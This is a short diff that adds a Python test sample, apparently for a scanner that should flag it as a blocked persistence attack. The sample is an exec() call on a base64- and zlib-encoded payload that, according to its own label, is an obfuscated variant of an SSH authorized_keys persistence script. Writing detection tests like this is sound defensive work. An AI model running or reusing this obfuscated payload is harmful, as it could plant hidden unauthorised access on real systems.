@@ -1,0 +1,3 @@
+# expect: BLOCKED category: persistence variant-of: risky/persistence/authorized_keys.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxdT01LxDAQvedXDPFggxqtUtgVFlzqHhZxT3tRhBLMQGLaJGRStu7B326KX+A7DW/eB+8E1loTKA8qZ/XqMJ0SOHyHHECN2YRkj6i7wpBkdoghZQjE2MPmCVbAicwF6uumqZewLmhvdkfV1v3z/bbe7TfNzG3bhb9yj/Vvwx1Oaog9clbsnbapJAWSUWUjcYrK65EwVfzjUhYBF6w8B+WwKKn6tpwDTpZyF9xqn0YU7GCzgRDRVz9Rb8H6Pzn/t4aLmeMCFIEplT3eMij4uuUh2YzVvPIM+Ivn4hNloWIl')))
